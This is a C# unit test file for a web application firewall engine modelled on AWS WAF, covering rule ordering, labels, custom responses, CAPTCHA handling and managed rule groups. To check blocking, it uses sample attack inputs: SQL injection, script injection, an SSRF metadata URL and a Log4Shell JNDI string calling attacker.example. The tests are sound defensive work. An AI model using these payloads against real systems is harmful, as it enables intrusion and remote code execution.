using static Rampart.Waf.Engine.Tests.Waf;

namespace Rampart.Waf.Engine.Tests;

public sealed class EvaluationTests
{
    private static readonly string PathIsAdmin = ByteMatch(Field("UriPath"), "/admin", "STARTS_WITH");
    private static readonly string AnyPath = ByteMatch(Field("UriPath"), "/", "STARTS_WITH");

    [Fact]
    public void Rules_run_in_priority_order_and_the_first_terminating_action_wins()
    {
        var acl = Compile($"[{Rule("blocker", 2, AnyPath)}, {Rule("allower", 1, PathIsAdmin, """{"Allow":{}}""")}]");
        var verdict = Run(acl, Request("/admin/x"));
        Assert.Equal(WafAction.Allow, verdict.Action);
        Assert.Equal("allower", verdict.TerminatingRuleName);
        Assert.Equal(WafRuleType.Regular, verdict.TerminatingRuleType);
        Assert.Equal(WafAction.Block, Run(acl, Request("/public")).Action);
        Assert.Equal(["allower", "blocker"], acl.RuleNames);
    }

    [Fact]
    public void No_match_takes_the_default_action()
    {
        var acl = Compile($"[{Rule("r", 0, PathIsAdmin)}]", """{"Block":{}}""");
        var verdict = Run(acl, Request("/x"));
        Assert.Equal(WafAction.Block, verdict.Action);
        Assert.Equal(WafVerdict.DefaultActionRuleName, verdict.TerminatingRuleName);
        Assert.Null(verdict.TerminatingRuleType);
        Assert.Empty(verdict.Matches);
    }

    [Fact]
    public void Count_labels_the_request_and_evaluation_continues()
    {
        var acl = Compile($"[{Rule("counter", 0, PathIsAdmin, """{"Count":{}}""", """[{"Name":"admin:path"}]""")}]");
        var verdict = Run(acl, Request("/admin"));
        Assert.Equal(WafAction.Allow, verdict.Action);
        Assert.Equal(WafVerdict.DefaultActionRuleName, verdict.TerminatingRuleName);
        Assert.Equal(["awswaf:111122223333:webacl:test-acl:admin:path"], verdict.Labels);
        var match = Assert.Single(verdict.Matches);
        Assert.Equal(new WafRuleMatch("counter", "counter-metric", WafAction.Count, false, null, null, WafRuleType.Regular), match);
    }

    [Fact]
    public void Labels_are_visible_to_later_rules_only()
    {
        var labelled = """{"LabelMatchStatement":{"Scope":"LABEL","Key":"tagged"}}""";
        var earlier = Rule("earlier", 0, labelled);
        var tagger = Rule("tagger", 1, AnyPath, """{"Count":{}}""", """[{"Name":"tagged"}]""");
        var later = Rule("later", 2, labelled);
        var verdict = Run(Compile($"[{earlier}, {tagger}, {later}]"), Request("/"));
        Assert.Equal(WafAction.Block, verdict.Action);
        Assert.Equal("later", verdict.TerminatingRuleName);
        var selfMatch = Rule("self", 0, $$$"""{"AndStatement":{"Statements":[{{{AnyPath}}}, {{{labelled}}}]}}""", """{"Count":{}}""", """[{"Name":"tagged"}]""");
        Assert.Empty(Run(Compile($"[{selfMatch}]"), Request("/")).Matches);
    }

    [Fact]
    public void Label_match_takes_qualified_names_and_namespaces()
    {
        var tagger = Rule("tagger", 0, AnyPath, """{"Count":{}}""", """[{"Name":"bots:crawler:google"}]""");
        foreach (var (scope, key, matches) in new[]
        {
            ("LABEL", "google", true),
            ("LABEL", "crawler:google", true),
            ("LABEL", "awswaf:111122223333:webacl:test-acl:bots:crawler:google", true),
            ("LABEL", "oogle", false),
            ("LABEL", "crawler", false),
            ("NAMESPACE", "bots:crawler:", true),
            ("NAMESPACE", "bots:", true),
            ("NAMESPACE", "awswaf:111122223333:webacl:test-acl:bots:crawler:", true),
            ("NAMESPACE", "google:", false),
            ("NAMESPACE", "bot:", false),
        })
        {
            var check = Rule("check", 1, $$$"""{"LabelMatchStatement":{"Scope":"{{{scope}}}","Key":"{{{key}}}"}}""");
            Assert.True(matches == (Run(Compile($"[{tagger}, {check}]"), Request("/")).Action == WafAction.Block), $"{scope} {key}");
        }
    }

    [Fact]
    public void Block_returns_the_custom_response_with_its_body()
    {
        var action = """{"Block":{"CustomResponse":{"ResponseCode":429,"CustomResponseBodyKey":"slow","ResponseHeaders":[{"Name":"Retry-After","Value":"60"}]}}}""";
        var extra = """, "CustomResponseBodies": {"slow": {"ContentType": "APPLICATION_JSON", "Content": "{\"error\":\"slow down\"}"}}""";
        var verdict = Run(Compile($"[{Rule("r", 0, AnyPath, action)}]", extra: extra), Request("/"));
        Assert.Equal(WafAction.Block, verdict.Action);
        var response = Assert.IsType<WafCustomResponse>(verdict.CustomResponse);
        Assert.Equal(429, response.StatusCode);
        Assert.Equal("slow", response.BodyKey);
        Assert.Equal("application/json", response.ContentType);
        Assert.Equal("{\"error\":\"slow down\"}", response.Body);
        Assert.Equal([new WafHeader("Retry-After", "60")], response.Headers);
    }

    [Fact]
    public void A_custom_response_body_key_must_exist()
    {
        var action = """{"Block":{"CustomResponse":{"ResponseCode":403,"CustomResponseBodyKey":"missing"}}}""";
        var bodies = """, "CustomResponseBodies": {"other": {"ContentType": "TEXT_PLAIN", "Content": "x"}}""";
        var error = Assert.Throws<WafDefinitionException>(() => Compile($"[{Rule("r", 0, AnyPath, action)}]", extra: bodies));
        Assert.Equal("CUSTOM_RESPONSE_BODY", error.Field);
        Assert.Equal("missing", error.Parameter);
    }

    [Fact]
    public void Allow_and_count_insert_prefixed_request_headers_and_block_inserts_none()
    {
        var count = Rule("c", 0, AnyPath, """{"Count":{"CustomRequestHandling":{"InsertHeaders":[{"Name":"counted","Value":"yes"}]}}}""");
        var allow = Rule("a", 1, AnyPath, """{"Allow":{"CustomRequestHandling":{"InsertHeaders":[{"Name":"allowed","Value":"1"}]}}}""");
        var verdict = Run(Compile($"[{count}, {allow}]"), Request("/"));
        Assert.Equal([new WafHeader("x-amzn-waf-counted", "yes"), new WafHeader("x-amzn-waf-allowed", "1")], verdict.InsertHeaders);
        var blocked = Run(Compile($"[{count}, {Rule("b", 1, AnyPath)}]"), Request("/"));
        Assert.Empty(blocked.InsertHeaders);
        var byDefault = Run(Compile("[]", """{"Allow":{"CustomRequestHandling":{"InsertHeaders":[{"Name":"default","Value":"d"}]}}}"""), Request("/"));
        Assert.Equal([new WafHeader("x-amzn-waf-default", "d")], byDefault.InsertHeaders);
    }

    [Fact]
    public void Captcha_terminates_without_a_fresh_token_and_acts_like_count_with_one()
    {
        var clock = new ManualClock(DateTimeOffset.Parse("2026-01-01T00:00:00Z"));
        var runtime = new WafRuntime(clock);
        var acl = Compile($"[{Rule("puzzle", 0, AnyPath, """{"Captcha":{}}""")}]", extra: """, "CaptchaConfig": {"ImmunityTimeProperty": {"ImmunityTime": 120}}""");
        Assert.Equal(WafAction.Captcha, acl.Evaluate(Request("/"), runtime).Action);
        var solved = Request("/") with { Token = new WafTokenState(clock.GetUtcNow().AddSeconds(-100), null) };
        var verdict = acl.Evaluate(solved, runtime);
        Assert.Equal(WafAction.Allow, verdict.Action);
        Assert.False(Assert.Single(verdict.Matches).Terminating);
        clock.Advance(TimeSpan.FromSeconds(30));
        Assert.Equal(WafAction.Captcha, acl.Evaluate(solved, runtime).Action);
    }

    [Fact]
    public void Challenge_accepts_a_recent_challenge_or_captcha_solution()
    {
        var clock = new ManualClock(DateTimeOffset.Parse("2026-01-01T00:00:00Z"));
        var runtime = new WafRuntime(clock);
        var acl = Compile($"[{Rule("silent", 0, AnyPath, """{"Challenge":{}}""")}]");
        Assert.Equal(WafAction.Challenge, acl.Evaluate(Request("/"), runtime).Action);
        var challenged = Request("/") with { Token = new WafTokenState(null, clock.GetUtcNow().AddSeconds(-10)) };
        Assert.Equal(WafAction.Allow, acl.Evaluate(challenged, runtime).Action);
        var puzzled = Request("/") with { Token = new WafTokenState(clock.GetUtcNow().AddSeconds(-299), null) };
        Assert.Equal(WafAction.Allow, acl.Evaluate(puzzled, runtime).Action);
        var stale = Request("/") with { Token = new WafTokenState(null, clock.GetUtcNow().AddSeconds(-301)) };
        Assert.Equal(WafAction.Challenge, acl.Evaluate(stale, runtime).Action);
    }

    [Fact]
    public void Logical_statements_combine()
    {
        var get = ByteMatch(Field("Method"), "GET", "EXACTLY");
        var admin = PathIsAdmin;
        var and = $$$"""{"AndStatement":{"Statements":[{{{get}}},{{{admin}}}]}}""";
        var or = $$$"""{"OrStatement":{"Statements":[{{{get}}},{{{admin}}}]}}""";
        var not = $$$"""{"NotStatement":{"Statement":{{{get}}}}}""";
        Assert.True(Blocks(and, Request("/admin")));
        Assert.False(Blocks(and, Request("/admin", method: "POST")));
        Assert.True(Blocks(or, Request("/x")));
        Assert.True(Blocks(or, Request("/admin", method: "POST")));
        Assert.False(Blocks(or, Request("/x", method: "POST")));
        Assert.True(Blocks(not, Request("/x", method: "POST")));
        Assert.False(Blocks(not, Request("/x")));
    }

    private const string GroupArn = "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/my-group/2222";

    private static string Group(params string[] rules) => $$$"""
        {"RuleGroup": {"Name":"my-group","Id":"2222","ARN":"{{{GroupArn}}}","Capacity":100,
          "LabelNamespace":"awswaf:111122223333:rulegroup:my-group:",
          "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"my-group"},
          "CustomResponseBodies":{"denied":{"ContentType":"TEXT_PLAIN","Content":"group says no"}},
          "Rules":[{{{string.Join(",", rules)}}}]}, "LockToken": "abc"}
        """;

    private static string GroupRule(string overrideAction = """{"None":{}}""", string extra = "") => $$$"""
        {"Name":"use-group","Priority":0,"Statement":{"RuleGroupReferenceStatement":{"ARN":"{{{GroupArn}}}"{{{extra}}}}},
         "OverrideAction":{{{overrideAction}}},
         "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"use-group"}}
        """;

    [Fact]
    public void A_rule_group_terminates_the_web_acl_and_labels_in_its_namespace()
    {
        var inner = Rule("inner-block", 1, PathIsAdmin, """{"Block":{"CustomResponse":{"ResponseCode":403,"CustomResponseBodyKey":"denied"}}}""", """[{"Name":"admin"}]""");
        var counter = Rule("inner-count", 0, AnyPath, """{"Count":{}}""", """[{"Name":"seen"}]""");
        var references = References(ruleGroups: [(GroupArn, Group(inner, counter))]);
        var acl = Compile($"[{GroupRule()}, {Rule("after", 1, AnyPath, """{"Allow":{}}""")}]", """{"Allow":{}}""", references);
        var verdict = Run(acl, Request("/admin"));
        Assert.Equal(WafAction.Block, verdict.Action);
        Assert.Equal("use-group", verdict.TerminatingRuleName);
        Assert.Equal(WafRuleType.Group, verdict.TerminatingRuleType);
        Assert.Equal("group says no", verdict.CustomResponse?.Body);
        Assert.Equal(["awswaf:111122223333:rulegroup:my-group:seen", "awswaf:111122223333:rulegroup:my-group:admin"], verdict.Labels);
        Assert.Equal(
            [new WafRuleMatch("inner-count", "inner-count-metric", WafAction.Count, false, GroupArn, "use-group", WafRuleType.Regular),
             new WafRuleMatch("inner-block", "inner-block-metric", WafAction.Block, true, GroupArn, "use-group", WafRuleType.Regular)],
            verdict.Matches);
        Assert.Equal("after", Run(acl, Request("/public")).TerminatingRuleName);
        Assert.Equal(100 + 2, acl.Capacity);
    }

    [Fact]
    public void Override_count_excluded_rules_and_rule_action_overrides_change_group_actions()
    {
        var block = Rule("blocker", 0, PathIsAdmin);
        var references = References(ruleGroups: [(GroupArn, Group(block))]);
        var counted = Run(Compile($"[{GroupRule("""{"Count":{}}""")}]", references: references), Request("/admin"));
        Assert.Equal(WafAction.Allow, counted.Action);
        Assert.Equal(WafAction.Count, Assert.Single(counted.Matches).Action);

        var excludedRule = GroupRule(extra: ",\"ExcludedRules\":[{\"Name\":\"blocker\"}]");
        var excluded = Run(Compile($"[{excludedRule}]", references: references), Request("/admin"));
        Assert.Equal(WafAction.Allow, excluded.Action);

        var overrideRule = GroupRule(extra: ",\"RuleActionOverrides\":[{\"Name\":\"blocker\",\"ActionToUse\":{\"Captcha\":{}}}]");
        var overridden = Run(Compile($"[{overrideRule}]", references: references), Request("/admin"));
        Assert.Equal(WafAction.Captcha, overridden.Action);
    }

    [Fact]
    public void A_missing_rule_group_is_a_nonexistent_item()
    {
        var error = Assert.Throws<WafDefinitionException>(() => Compile($"[{GroupRule()}]"));
        Assert.Equal(WafDefinitionException.NonexistentItem, error.ErrorCode);
        Assert.Equal(GroupArn, error.Parameter);
    }

    private static string Managed(string name, string extra = "", string overrideAction = """{"None":{}}""") => $$$"""
        {"Name":"managed","Priority":0,"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"{{{name}}}"{{{extra}}}}},
         "OverrideAction":{{{overrideAction}}},
         "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"managed"}}
        """;

    [Fact]
    public void The_managed_sql_database_group_blocks_injection_with_aws_labels()
    {
        var acl = Compile($"[{Managed("AWSManagedRulesSQLiRuleSet")}]");
        var verdict = Run(acl, Request("/search", "q=1%27%20OR%20%271%27%3D%271"));
        Assert.Equal(WafAction.Block, verdict.Action);
        Assert.Equal("managed", verdict.TerminatingRuleName);
        Assert.Equal(WafRuleType.ManagedRuleGroup, verdict.TerminatingRuleType);
        Assert.Contains("awswaf:managed:aws:sql-database:SQLi_QueryArguments", verdict.Labels);
        Assert.Equal("AWS#AWSManagedRulesSQLiRuleSet", verdict.Matches[^1].RuleGroup);
        Assert.Equal(WafAction.Allow, Run(acl, Request("/search", "q=O%27Brien")).Action);
        Assert.Equal(200, acl.Capacity);
    }

    [Fact]
    public void A_managed_group_scope_down_statement_gates_the_whole_group()
    {
        var scope = $$$""","ScopeDownStatement":{{{PathIsAdmin}}}""";
        var acl = Compile($"[{Managed("AWSManagedRulesCommonRuleSet", scope)}]");
        Assert.Equal(WafAction.Block, Run(acl, Request("/admin", "x=%3Cscript%3Ealert(1)%3C/script%3E", headers: ("User-Agent", "curl"))).Action);
        Assert.Equal(WafAction.Allow, Run(acl, Request("/public", "x=%3Cscript%3Ealert(1)%3C/script%3E", headers: ("User-Agent", "curl"))).Action);
        Assert.Equal(700 + 2, acl.Capacity);
    }

    [Fact]
    public void The_core_rule_set_flags_missing_user_agents_and_known_bad_inputs_flags_log4j()
    {
        var core = Compile($"[{Managed("AWSManagedRulesCommonRuleSet")}]");
        var verdict = Run(core, Request("/"));
        Assert.Equal(WafAction.Block, verdict.Action);
        Assert.Contains("awswaf:managed:aws:core-rule-set:NoUserAgent_Header", verdict.Labels);
        Assert.Equal(WafAction.Allow, Run(core, Request("/", headers: ("User-Agent", "Mozilla/5.0"))).Action);
        Assert.Equal(WafAction.Block, Run(core, Request("/", headers: ("User-Agent", "sqlmap/1.7"))).Action);
        Assert.Equal(WafAction.Block, Run(core, Request("/", "url=http://169.254.169.254/latest/meta-data", headers: ("User-Agent", "x"))).Action);

        var bad = Compile($"[{Managed("AWSManagedRulesKnownBadInputsRuleSet")}]");
        Assert.Equal(WafAction.Block, Run(bad, Request("/", headers: ("X-Api-Version", "${jndi:ldap://attacker.example/a}"))).Action);
        Assert.Equal(WafAction.Allow, Run(bad, Request("/", headers: ("X-Api-Version", "${project.version}"))).Action);
    }

    [Fact]
    public void Unknown_managed_groups_and_versions_are_invalid()
    {
        Assert.Equal("MANAGED_RULE_SET_STATEMENT", Assert.Throws<WafDefinitionException>(() => Compile($"[{Managed("AWSManagedRulesNope")}]")).Field);
        var unknownVersion = Managed("AWSManagedRulesCommonRuleSet", ",\"Version\":\"Version_9.9\"");
        Assert.Throws<WafDefinitionException>(() => Compile($"[{unknownVersion}]"));
        var knownVersion = Managed("AWSManagedRulesCommonRuleSet", ",\"Version\":\"Version_1.0\"");
        Compile($"[{knownVersion}]");
    }
}
